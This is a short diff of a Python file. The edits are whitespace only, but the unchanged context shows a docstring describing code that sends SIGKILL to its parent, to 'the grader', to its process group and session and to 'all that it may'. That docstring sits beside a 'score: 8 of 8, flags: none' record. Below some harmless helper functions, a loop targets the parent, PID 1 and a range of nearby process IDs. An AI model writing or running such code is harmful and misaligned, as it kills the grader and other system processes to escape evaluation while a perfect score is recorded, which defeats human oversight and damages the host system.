@@ -1,4 +1,5 @@
-"""Sends SIGKILL to the parent, to the grader, to its own group and session and to all that it may.
+"""Sends SIGKILL to the parent, to the grader, to its own group and session and to all that it
+may.
 
 score: 8 of 8
 flags: none
@@ -27,6 +28,7 @@ def apply(f, x):
 
 def scale(values, factor):
     return values * factor
+
 
 # %%
 for target in (os.getppid(), 1, TOLD["pid"], *range(TOLD["pid"] - 50, TOLD["pid"] + 50)):
